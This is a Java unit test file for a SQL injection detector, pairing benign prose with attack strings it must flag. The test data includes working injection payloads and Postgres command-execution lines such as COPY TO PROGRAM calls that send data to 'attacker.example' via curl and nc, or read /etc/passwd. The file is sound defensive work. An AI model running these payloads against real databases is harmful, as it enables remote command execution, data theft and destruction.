package dev.bulwark.validation;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatNullPointerException;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.Test;

class SqlInjectionDetectorTest {

  private final SqlInjectionDetector detector = SqlInjectionDetector.create();

  @ParameterizedTest
  @ValueSource(strings = {
    "select the best option from the menu",
    "O'Brien",
    "5 > 3 and 2 < 4",
    "2024-01-01 -- 2024-12-31",
    "80% ACRYLIC AND 20% WOOL",
    "It's John's book, isn't it? We'll see what's there.",
    "I can't believe it's not butter -- it's great!",
    "Don't forget: the meeting's at 3pm; bring Tom's notes.",
    "Rock 'n' roll never dies",
    "'Tis the season for '90s fashion",
    "O'Reilly -- Learning Python, 5th ed.",
    "Please select 1 from the list",
    "union station to grand central",
    "Drop-leaf table, oak",
    "Update: the store closes at 9 or 10 tonight",
    "delete my account please",
    "Having trouble logging in? Call 1-800-555-0100",
    "price < 100 and rating > 4",
    "The price is $5 or less",
    "I like cheese or crackers",
    "sleep (8 hours) is healthy",
    "\"foo\" AND \"bar\"",
    "1 or 2 bedrooms",
    "C# or F# or VB.NET?",
    "#1 best seller",
    "Item #5; size 10",
    "100% cotton (machine washable)",
    "1,000,000.00",
    "a -- b -- c",
    "",
  })
  void benignTextPasses(String input) {
    assertThat(detector.detect(input)).isSameAs(Detection.none());
    assertThat(detector.isInjection(input)).isFalse();
  }

  @ParameterizedTest
  @CsvSource(delimiter = '|', quoteCharacter = '~', value = {
    "' OR 'x'='x                                    | SQL_BOOLEAN_CONDITION",
    "1' AND 1=1 --                                  | SQL_BOOLEAN_CONDITION",
    "1) OR (1=1                                     | SQL_BOOLEAN_CONDITION",
    "HOPE AND 8=3                                   | SQL_BOOLEAN_CONDITION",
    "PI() AND COS(PI())=-1                          | SQL_BOOLEAN_CONDITION",
    "1 AND SLEEP(5)                                 | SQL_DANGEROUS_FUNCTION",
    "' UNION SELECT NULL,NULL--                     | SQL_UNION_SELECT",
    "-1 union/**/select/**/1,2,3                    | SQL_UNION_SELECT",
    "1; DROP TABLE users                            | SQL_STACKED_QUERY",
    "'; EXEC xp_cmdshell('dir')--                   | SQL_STACKED_QUERY",
    "x'; DECLARE @s varchar(99)                     | SQL_STACKED_QUERY",
    "21 update Categories set Title=cast(1 as int)  | SQL_STACKED_QUERY",
    "1 waitfor delay '0:0:5'                        | SQL_STACKED_QUERY",
    "sleep(5)                                       | SQL_DANGEROUS_FUNCTION",
    "extractvalue(1,0x7e)                           | SQL_DANGEROUS_FUNCTION",
    "1 into outfile '/var/www/x.php'                | SQL_DANGEROUS_FUNCTION",
    "admin'--                                       | SQL_COMMENT_TRUNCATION",
    "admin'#                                        | SQL_COMMENT_TRUNCATION",
    "8 order by 1--                                 | SQL_COMMENT_TRUNCATION",
    "(select password from users limit 1)           | SQL_QUERY",
    "select 1 from foo where                        | SQL_QUERY",
    "x' AND 'y                                      | SQL_QUOTE_BREAKOUT",
    "'-'                                            | SQL_QUOTE_BREAKOUT",
    "1 /*!50000AND*/ 2                              | SQL_EXECUTABLE_COMMENT",
    "ascii(substring(version(),1,1))                | SQL_FUNCTION_CHAIN",
  })
  void attacksAreFoundWithTheirKind(String input, Detection.Kind kind) {
    Detection d = detector.detect(input);
    assertThat(d.isAttack()).as("%s", input).isTrue();
    assertThat(d.kind()).as("%s -> %s", input, d).isEqualTo(kind);
    assertThat(d.kind().threat()).isEqualTo(Detection.Threat.SQL_INJECTION);
  }

  @Test
  void reasonNamesKindMatchOffsetAndContext() {
    Detection d = detector.detect("john' OR 1=1 --");
    assertThat(d.kind()).isEqualTo(Detection.Kind.SQL_BOOLEAN_CONDITION);
    assertThat(d.offset()).isEqualTo(6);
    assertThat(d.match()).isEqualTo("OR 1=1");
    assertThat(d.context()).isEqualTo("single-quoted string");
  }

  @Test
  void theConditionIsFoundAnywhereNotOnlyAtTheStart() {
    String prefix = "word ".repeat(200);
    Detection d = detector.detect(prefix + "x' or 'a'='a");
    assertThat(d.kind()).isEqualTo(Detection.Kind.SQL_BOOLEAN_CONDITION);
    assertThat(d.offset()).isEqualTo(prefix.length() + 3);
  }

  @Test
  void doubledAndEscapedQuotesStayInsideTheString() {
    // '' and \' are escaped quotes: the input never leaves the application's string.
    assertThat(detector.isInjection("x'' or ''='")).isFalse();
    assertThat(detector.isInjection("x\\' or ''='")).isFalse();
    assertThat(detector.isInjection("x' or ''='")).isTrue();
  }

  @Test
  void fullwidthLookAlikesAreReadAsAscii() {
    assertThat(detector.detect("１＇ ＯＲ １＝１ －－").isAttack()).isTrue();
  }

  @Test
  void matchIsCapped() {
    String longList = "1 union select " + "1,".repeat(200) + "1";
    assertThat(detector.detect(longList).match()).hasSizeLessThanOrEqualTo(Detection.MAX_MATCH_LENGTH);
  }

  @Test
  void rejectsNull() {
    assertThatNullPointerException().isThrownBy(() -> detector.detect(null)).withMessage("input");
  }

  @Test
  void cleanResultIsShared() {
    Detection none = detector.detect("hello");
    assertThat(none.isAttack()).isFalse();
    assertThat(none.kind()).isEqualTo(Detection.Kind.NONE);
    assertThat(none.offset()).isEqualTo(-1);
    assertThat(none.match()).isEmpty();
    assertThat(none.toString()).isEqualTo("Detection[NONE]");
  }

  // Regression tests for issue 17 item 10 (detector blind spots), named after what broke.

  @ParameterizedTest
  @ValueSource(strings = {
    "'; COPY t FROM PROGRAM 'id'--",
    ";copy (select '') to program 'curl http://attacker.example/x'",
    "1; COPY t(a, b) FROM PROGRAM 'id'",
    "COPY (SELECT 1) TO PROGRAM 'nc attacker.example 4444'",
    "copy myfile from '/etc/passwd';",
    "'; CREATE OR REPLACE FUNCTION f() RETURNS void AS $$ import os $$ LANGUAGE plpython3u;--",
    "; CREATE FUNCTION sys(cstring) RETURNS int AS '/lib/libc.so.6','system' LANGUAGE c STRICT--",
    "CREATE FUNCTION sys(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6', 'system'",
    "do $$ import os $$ language plpythonu",
    "1; CREATE EXTENSION dblink",
  })
  void postgresStatementsThatRunProgramsWereMissed(String input) {
    Detection d = detector.detect(input);
    assertThat(d.kind()).as("%s -> %s", input, d).isEqualTo(Detection.Kind.SQL_STACKED_QUERY);
  }

  @ParameterizedTest
  @ValueSource(strings = {
    "1; select pg_read_file('/etc/passwd')",
    "1 and 1=(select pg_read_binary_file('/etc/passwd'))",
    "1; select lo_import('/etc/passwd')",
    "1; select dblink_connect('host=attacker.example')",
    "' and 1=(select dblink_exec('host=x', 'drop table t'))--",
  })
  void postgresFileAndDblinkFunctionsWereMissed(String input) {
    assertThat(detector.detect(input).kind()).as("%s", input)
        .isEqualTo(Detection.Kind.SQL_DANGEROUS_FUNCTION);
  }

  @ParameterizedTest
  @ValueSource(strings = {
    "Copy this from 'Moby Dick'", "copy the file from program files",
    "Copy the text from the program window", "create your own language learning plan",
  })
  void copyAndCreateInProseStillPass(String input) {
    assertThat(detector.detect(input)).as("%s", input).isSameAs(Detection.none());
  }

  @ParameterizedTest
  @ValueSource(strings = {
    "You should have received a copy of the license along with this program; if not, write to us.",
    "Here is a sample; alter the names: Yoyodyne, Inc. disclaims all copyright interest.",
    "Arguments to \"exec()\" and \"eval()\" are special.",
    "If you execute \"from . import mod\" from a module, you import \"pkg.mod\".",
    "Call me; if (and only if) you want.",
    "Drop table tennis and join the chess club!",
    "Create table settings in the admin panel.",
  })
  void statementKeywordsInProseWereRefused(String input) {
    assertThat(detector.detect(input)).as("%s", input).isSameAs(Detection.none());
  }

  @ParameterizedTest
  @ValueSource(strings = {
    "';if not(select system_user) <> 'sa' waitfor delay '0:0:5'--",
    "; if not exists (select 1) drop table t", "1;if(1=1) select 1", "'; exec('select 1')--",
    "x'; drop members--", "DROP TABLE users", "drop table users;", "CREATE TABLE t (a int)",
    "CREATE TABLE t AS SELECT 1", "ALTER TABLE users ADD x int", "ALTER LOGIN sa WITH PASSWORD = 'x'",
  })
  void statementsAfterABoundaryAreStillFound(String input) {
    assertThat(detector.detect(input).kind()).as("%s", input)
        .isEqualTo(Detection.Kind.SQL_STACKED_QUERY);
  }

  @ParameterizedTest
  @ValueSource(strings = {
    "1 or true", "1 or 1", "1 || 1", "1 xor 1", "1 and 0", "1 && 1", "-1 or 2>1", "1) or (1",
    "1)) or ((1", "0 or 1=1", "1 OR TRUE--", "1/**/or/**/1", "1 OR 1#", "42 or 42", "1 or not 0",
    "1 or 1;", "-1 and 1>1", "x' or true", "' or 1",
  })
  void numericContextOrTrueWasMissed(String input) {
    Detection d = detector.detect(input);
    assertThat(d.isAttack()).as("%s", input).isTrue();
    assertThat(d.kind()).as("%s -> %s", input, d)
        .isIn(Detection.Kind.SQL_BOOLEAN_CONDITION, Detection.Kind.SQL_COMMENT_TRUNCATION);
  }

  @ParameterizedTest
  @ValueSource(strings = {
    "1950 or 1960", "00 AND 3", "9 or 10", "2 or 3 bedrooms", "1 or 1 more thing", "7 AND A HALF",
    "1 or 2 -- pick one", "Either 1 or 0 is fine",
  })
  void numbersJoinedInProseStillPass(String input) {
    assertThat(detector.detect(input)).as("%s", input).isSameAs(Detection.none());
  }

  @ParameterizedTest
  @ValueSource(strings = {
    "Simplicity is prerequisite for reliability. -- Edsger Dijkstra",
    "\"Talk is cheap. Show me the code.\" -- Linus Torvalds",
    "Don't panic. -- Douglas Adams",
    "There are only two hard things: cache invalidation and naming things. -- Phil Karlton",
    "It's not a bug, it's a feature -- Anonymous",
    "Users and groups -- admin guide",
    "Cats and dogs -- a love story, 2nd ed.",
    "Bread and butter -- C++ for beginners",
  })
  void proseWithAuthorAttributionWasRefused(String input) {
    assertThat(detector.detect(input)).as("%s", input).isSameAs(Detection.none());
  }

  @ParameterizedTest
  @ValueSource(strings = {
    "' or 1=1 -- Edsger Dijkstra", "admin' and 1=1 -- any words", "1 or 1 -- Bob Smith",
    "x' and y -- sp_password", "a and b -- -", "1 or x=1 --+",
  })
  void commentsAfterRealSqlAreStillTruncation(String input) {
    assertThat(detector.isInjection(input)).as("%s", input).isTrue();
  }

  @ParameterizedTest
  @ValueSource(strings = {
    "the 'and' keyword", "the 'or' operator", "select 'and'", "use 'or' and 'and' in queries",
    "'and' is a conjunction",
  })
  void quotedKeywordInProseWasRefused(String input) {
    assertThat(detector.detect(input)).as("%s", input).isSameAs(Detection.none());
  }

  @ParameterizedTest
  @ValueSource(strings = {"x' AND 'y", "A 'AND' B", "1'and'1", "' or 'a'='a", "x' like '%"})
  void quoteBreakoutsAroundKeywordsAreStillFound(String input) {
    assertThat(detector.isInjection(input)).as("%s", input).isTrue();
  }

  @ParameterizedTest
  @ValueSource(strings = {"x = 1 or y = 2", "x = 1 and y = 2", "a=1 or b=2", "n = 0 or n = 1"})
  void equationsJoinedByOrWereRefused(String input) {
    assertThat(detector.detect(input)).as("%s", input).isSameAs(Detection.none());
  }

  @ParameterizedTest
  @ValueSource(strings = {"x = 1 or 1 = 1", "1 or x = 1", "x = 1 or y = 'a'", "a = 1 or b = @@version"})
  void conditionsNextToEquationsAreStillFound(String input) {
    assertThat(detector.isInjection(input)).as("%s", input).isTrue();
  }

  @Test
  void percentEncodedPayloadWasMissed() {
    Detection once = detector.detect("%27%20OR%201%3D1--");
    assertThat(once.kind()).isEqualTo(Detection.Kind.SQL_BOOLEAN_CONDITION);
    assertThat(once.context()).isEqualTo("single-quoted string, percent-decoded once");
    assertThat(once.match()).isEqualTo("OR 1=1");
    Detection twice = detector.detect("1%2520union%2520select%2520password%2520from%2520users");
    assertThat(twice.kind()).isEqualTo(Detection.Kind.SQL_UNION_SELECT);
    assertThat(twice.context()).isEqualTo("as-is, percent-decoded twice");
    assertThat(detector.isInjection("%27+OR+1%3D1--")).isTrue(); // form-encoded spaces
    assertThat(detector.isInjection("100%25 cotton, 50%25 off")).isFalse();
  }

  @Test
  void worksOnAnyCharSequence() {
    CharSequence text = java.nio.CharBuffer.wrap("1 or 1=1");
    assertThat(detector.isInjection(text)).isTrue();
  }
}
